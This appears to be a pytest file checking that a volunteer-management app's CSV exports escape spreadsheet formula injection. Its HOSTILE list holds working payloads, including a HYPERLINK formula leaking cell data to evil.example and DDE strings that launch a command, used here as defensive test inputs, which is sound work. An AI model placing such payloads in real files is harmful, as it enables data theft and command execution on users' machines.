"""Every CSV export read back as a spreadsheet would: names and free text that look like formulas come out as
text (a leading single quote), numbers as numbers, phones whole. The exports: an order's assignments
(`/command/orders/<id>/assignments.csv`) and a volunteer's certificate of hours
(`/api/v1/volunteers/<id>/certificate.csv`)."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from mobilize.domain.text_safety import clean_line
from mobilize.models import (
    Assignment,
    AssignmentStatus,
    ServiceKind,
    ServiceRecord,
    ServiceStatus,
    Site,
    Volunteer,
)
from mobilize.models._types import utcnow
from tests.web.test_order_pages import _assign, _create, _post

# what people typed (a TAB or a bidi override is cleaned on input; the formula itself is plain text)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " \u202e=1+1",
    "＝HYPERLINK(\"http://evil.example\")",  # full-width: WPS may read it as a formula
]


def as_text_cell(typed: str) -> str:
    """The cell a spreadsheet must get: what was stored (cleaned on input), behind a single quote."""
    return "'" + clean_line(typed)


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_assignments_export_writes_hostile_names_as_text(clients, registry, web_runtime):
    commander = clients["commander"]
    order_id = _create(commander, registry)
    _post(commander, f"/command/orders/{order_id}/launch")
    (a1, _, phone_a1), (a2, _, _) = registry.volunteers_a[1:3]
    b0 = registry.volunteers_b[0][0]
    with web_runtime.transaction() as session:
        for volunteer_id, typed in ((a1, HOSTILE[0]), (a2, HOSTILE[4]), (b0, HOSTILE[6])):
            session.get(Volunteer, volunteer_id).name = typed
        session.get(Site, registry.site_a).name = HOSTILE[3]
    assignments = [_assign(web_runtime, order_id, registry.site_a, a1),
                   _assign(web_runtime, order_id, registry.site_a, a2),
                   _assign(web_runtime, order_id, registry.site_b, b0)]
    with web_runtime.transaction() as session:
        released = session.get(Assignment, assignments[2])
        released.status, released.distance_m = AssignmentStatus.released, 812.4
        released.end_reason = HOSTILE[2]

    rows = {int(row["编号"]): row for row in read_csv(
        commander.get(f"/command/orders/{order_id}/assignments.csv"))}
    assert [rows[a]["志愿者"] for a in assignments] == [as_text_cell(HOSTILE[0]), as_text_cell(HOSTILE[4]),
                                                     as_text_cell(HOSTILE[6])]
    assert rows[assignments[0]]["站点"] == as_text_cell(HOSTILE[3])
    assert rows[assignments[2]]["结束原因"] == as_text_cell(HOSTILE[2])
    assert rows[assignments[0]]["号码"] == "'" + phone_a1  # text starting with +: kept whole, as text
    assert rows[assignments[2]]["距离（米）"] == "812"  # numbers stay numbers
    assert rows[assignments[2]]["街道"] == "湛山街道" and rows[assignments[0]]["状态"] == "已确认"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), (column, cell)


@pytest.mark.parametrize("typed", HOSTILE)
def test_certificate_export_writes_hostile_free_text_as_text(app, registry, web_runtime, typed):
    volunteer_id = registry.volunteers_a[0][0]
    with web_runtime.transaction() as session:
        record = ServiceRecord(volunteer_id=volunteer_id, kind=ServiceKind.imported, description=typed,
                               role=typed, hours=3.5, certified_hours=3.25, status=ServiceStatus.certified,
                               certified_by=typed, certified_at=utcnow(), adjustment_reason=typed)
        session.add(record)
        session.flush()
        record_id = record.id
        assert session.scalar(select(ServiceRecord.description).where(ServiceRecord.id == record_id)) == \
            clean_line(typed)  # stored cleaned, still a formula: the export must neutralise it

    response = app.test_client().get(f"/api/v1/volunteers/{volunteer_id}/certificate.csv",
                                     headers={"Authorization": f"Bearer {registry.tokens['commander']}"})
    [row] = read_csv(response)
    for column in ("description", "role", "certified_by", "adjustment_reason"):
        assert row[column] == as_text_cell(typed), column
    assert (row["record_id"], row["kind"], row["hours"], row["certified_hours"]) == (
        str(record_id), "imported", "3.50", "3.25")
